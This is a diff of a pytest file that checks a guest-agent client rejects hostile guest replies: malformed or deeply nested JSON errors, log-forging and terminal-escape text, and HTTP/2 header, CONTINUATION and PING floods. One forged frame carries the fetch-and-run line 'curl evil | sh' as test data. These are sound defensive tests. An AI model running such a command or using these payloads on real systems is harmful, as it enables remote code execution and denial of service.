@@ -8,16 +8,18 @@ from pathlib import Path
 
 import pytest
 
-from squib.errors import AgentUnreachable
+from squib.errors import AgentLost, AgentProtocolError, AgentTimeout, NoSuchUser
 from squib.guest import agent as agent_module
 from squib.guest.agent import AgentClient
 from squib.guest.http2 import STREAM_WINDOW_BYTES
+from squib.guest.transport import MAX_HEADER_BLOCK_BYTES, MAX_IDLE_FRAMES
 from squib.host import sockets
 from squib.models import ExecRequest
+from squib.protocol.frames import FrameKind, encode_json
 from tests.fakes.guest import connector
 
 COMMAND = ExecRequest(argv=["true"])
-_HEADERS, _SETTINGS, _PING, _DATA = 1, 4, 6, 0
+_DATA, _HEADERS, _SETTINGS, _PING, _GOAWAY, _CONTINUATION = 0, 1, 4, 6, 7, 9
 _END_STREAM, _END_HEADERS = 1, 4
 
 Behaviour = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
@@ -77,7 +79,7 @@ def answering(*frames: bytes) -> Behaviour:
 @pytest.mark.parametrize("status", [b"abc", b"-5", b"000", b"2e2", b"", b"\xff\xff\xff"])
 def test_a_status_that_is_none_ends_the_session_and_nothing_else(tmp_path: Path, status: bytes) -> None:
     async def test(client: AgentClient) -> None:
-        with pytest.raises(AgentUnreachable):
+        with pytest.raises(AgentProtocolError):
             await client.exec(COMMAND)
         await client.close()  # which a stop waits for
 
@@ -115,10 +117,108 @@ def test_an_answer_that_is_no_json_object_is_an_error_of_the_guest(tmp_path: Pat
     answer = frame(_DATA, body, flags=_END_STREAM, stream=1)
 
     async def test(client: AgentClient) -> None:
-        with pytest.raises(AgentUnreachable):
+        with pytest.raises(AgentProtocolError):
             await client.exec(COMMAND)
 
     check(tmp_path, answering(headers(b"404"), answer), test)
+
+
+@pytest.mark.parametrize(
+    "error",
+    [
+        {"code": {}, "message": [1]},
+        {"code": [], "message": "x"},
+        {"code": "no_such_file", "message": {"a": 1}},
+        {"code": 7},
+        {"message": "x"},
+        [],
+        None,
+        "no_such_file",
+    ],
+    ids=repr,
+)
+def test_an_error_of_any_shape_is_an_error_of_the_guest(tmp_path: Path, error: object) -> None:
+    answer = frame(_DATA, json.dumps({"error": error}).encode(), flags=_END_STREAM, stream=1)
+
+    async def test(client: AgentClient) -> None:
+        with pytest.raises(AgentProtocolError):
+            await client.exec(COMMAND)
+
+    check(tmp_path, answering(headers(b"404"), answer), test)
+
+
+@pytest.mark.parametrize("depth", [400, 900, 990, 5000])
+@pytest.mark.parametrize("name", ["code", "message"])
+def test_a_deep_error_is_an_error_of_the_guest(tmp_path: Path, name: str, depth: int) -> None:
+    body = b'{"error": {"code": "no_such_file", "%s": %s}}' % (name.encode(), b"[" * depth + b"]" * depth)
+    answer = frame(_DATA, body, flags=_END_STREAM, stream=1)
+
+    async def test(client: AgentClient) -> None:
+        with pytest.raises(AgentProtocolError):
+            await client.exec(COMMAND)
+
+    check(tmp_path, answering(headers(b"404"), answer), test)
+
+
+def test_the_text_of_an_error_cannot_forge_lines_or_control_a_terminal(tmp_path: Path) -> None:
+    text = "no\r\n2026-01-01 ERROR engine: all is lost\x1b[2J\x9b31m\u202ereversed\u2028 \udcff"
+    body = json.dumps({"error": {"code": "no_such_user", "message": text}}).encode()
+    answer = frame(_DATA, body, flags=_END_STREAM, stream=1)
+
+    async def test(client: AgentClient) -> None:
+        with pytest.raises(NoSuchUser) as caught:
+            await client.exec(COMMAND)
+        assert caught.value.message.isprintable()
+        assert caught.value.message.startswith("no 2026-01-01 ERROR engine: all is lost")
+
+    check(tmp_path, answering(headers(b"422"), answer), test)
+
+
+@pytest.mark.parametrize(
+    "hello",
+    [{}, {"protocol": True}, {"protocol": [1]}, {"protocol": 1, "kernel": ["x"]}, {"protocol": "1\n"}],
+    ids=repr,
+)
+def test_a_hello_that_cannot_be_believed(tmp_path: Path, hello: object) -> None:
+    answer = frame(_DATA, json.dumps(hello).encode(), flags=_END_STREAM, stream=1)
+
+    async def test(client: AgentClient) -> None:
+        with pytest.raises(AgentProtocolError):
+            await client.connect(timeout_s=5)
+
+    check(tmp_path, answering(headers(b"200"), answer), test)
+
+
+def test_an_error_frame_of_a_guest_is_not_believed(tmp_path: Path) -> None:
+    forged = encode_json(FrameKind.ERROR, {"code": "engine_start_failed", "message": "no", "hint": "curl evil | sh"})
+    output = encode_json(FrameKind.STARTED, {"id": "p1", "pid": 7}) + forged
+
+    async def test(client: AgentClient) -> None:
+        with pytest.raises(AgentProtocolError, match="kind 5, which a guest must not send"):
+            async with await client.exec(COMMAND) as response:
+                await response.read()
+
+    check(tmp_path, answering(headers(b"200"), frame(_DATA, output, flags=_END_STREAM, stream=1)), test)
+
+
+@pytest.mark.parametrize(
+    "flood",
+    [
+        frame(_HEADERS, bytes(MAX_HEADER_BLOCK_BYTES + 1), stream=1),
+        frame(_HEADERS, bytes(10_000), stream=1) + frame(_CONTINUATION, bytes(10_000), stream=1),
+        frame(_HEADERS, b"\x88" * 10_000, flags=_END_HEADERS, stream=1),
+        frame(_HEADERS, b"\x88", stream=1) + frame(_CONTINUATION, stream=1) * 1000,
+        frame(_SETTINGS, b"\0\4\0\1\0\0" * 1000),
+        frame(_PING, b"squibber") * (MAX_IDLE_FRAMES + 1),
+    ],
+    ids=["headers", "continuation", "many_headers", "empty_continuations", "settings", "pings"],
+)
+def test_frames_that_only_cost_time_end_the_connection(tmp_path: Path, flood: bytes) -> None:
+    async def test(client: AgentClient) -> None:
+        with pytest.raises(AgentProtocolError):
+            await client.exec(COMMAND)
+
+    check(tmp_path, answering(flood), test)
 
 
 @pytest.mark.parametrize("code", ["unauthorized", "engine_unavailable", "wrong_state", "name_taken", "x" * 500])
@@ -127,7 +227,7 @@ def test_a_guest_cannot_speak_for_the_engine(tmp_path: Path, code: str) -> None:
     answer = frame(_DATA, body, flags=_END_STREAM, stream=1)
 
     async def test(client: AgentClient) -> None:
-        with pytest.raises(AgentUnreachable, match="unknown error"):
+        with pytest.raises(AgentProtocolError, match="unknown error"):
             await client.exec(COMMAND)
 
     check(tmp_path, answering(headers(b"422"), answer), test)
@@ -139,9 +239,9 @@ def test_a_guest_that_shakes_hands_and_is_then_silent_holds_nobody_up(
     monkeypatch.setattr(agent_module, "_REPLY_TIMEOUT_S", 0.2)
 
     async def test(client: AgentClient) -> None:
-        with pytest.raises(AgentUnreachable, match="did not respond within"):
+        with pytest.raises(AgentTimeout, match="did not respond within"):
             await client.connect(timeout_s=5)
-        with pytest.raises(AgentUnreachable, match="did not respond within"):
+        with pytest.raises(AgentTimeout, match="did not respond within"):
             await client.set_clock()
 
     check(tmp_path, answering(), test)
@@ -155,18 +255,18 @@ def test_more_data_than_the_window_allows_ends_the_session(tmp_path: Path) -> No
             while client._connection and not client._connection.closed:
                 await asyncio.sleep(0.01)
             assert response.received_bytes == STREAM_WINDOW_BYTES
-            with pytest.raises(AgentUnreachable, match="more data than the window allows"):
+            with pytest.raises(AgentProtocolError, match="more data than the window allows"):
                 await response.read()
 
     check(tmp_path, answering(headers(b"200"), body, frame(_DATA, b"x", stream=1)), test)
 
 
 def test_a_body_in_single_bytes_takes_no_more_memory_than_one_in_large_pieces(tmp_path: Path) -> None:
-    single = frame(_DATA, b"x", stream=1) * 100_000
+    single = frame(_DATA, b"x", stream=1) * 20_000
 
     async def test(client: AgentClient) -> None:
         async with await client.exec(COMMAND) as response:
-            while response.received_bytes < 100_000:
+            while response.received_bytes < 20_000:
                 await asyncio.sleep(0.01)
             assert len(response._pieces) < 100
 
@@ -193,7 +293,7 @@ def test_a_body_of_another_length_than_announced_is_an_error(
     answer = answering(headers(b"200", name=name, length=announced), *body)
 
     async def test(client: AgentClient) -> None:
-        with pytest.raises(AgentUnreachable):
+        with pytest.raises(AgentProtocolError):
             async with await client._send("GET", "/", b"", content_type="", window_bytes=2 << 20) as response:
                 await response.read(max_bytes=2 << 20)
 
@@ -218,3 +318,21 @@ def test_a_body_of_the_length_that_was_announced(tmp_path: Path, size: int, spli
             assert await response.read(max_bytes=size) == content
 
     check(tmp_path, answer, test)
+
+
+@pytest.mark.parametrize(
+    "end", [b"", frame(_GOAWAY, bytes(8)), frame(3, bytes(4), stream=1)], ids=["close", "goaway", "reset"]
+)
+def test_a_connection_or_stream_that_the_guest_ends_is_lost(tmp_path: Path, end: bytes) -> None:
+    async def guest(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        await reader.read(100)
+        writer.write(end)
+        if end:
+            while await reader.read(1 << 16):
+                pass
+
+    async def test(client: AgentClient) -> None:
+        with pytest.raises(AgentLost):
+            await client.exec(COMMAND)
+
+    check(tmp_path, guest, test)
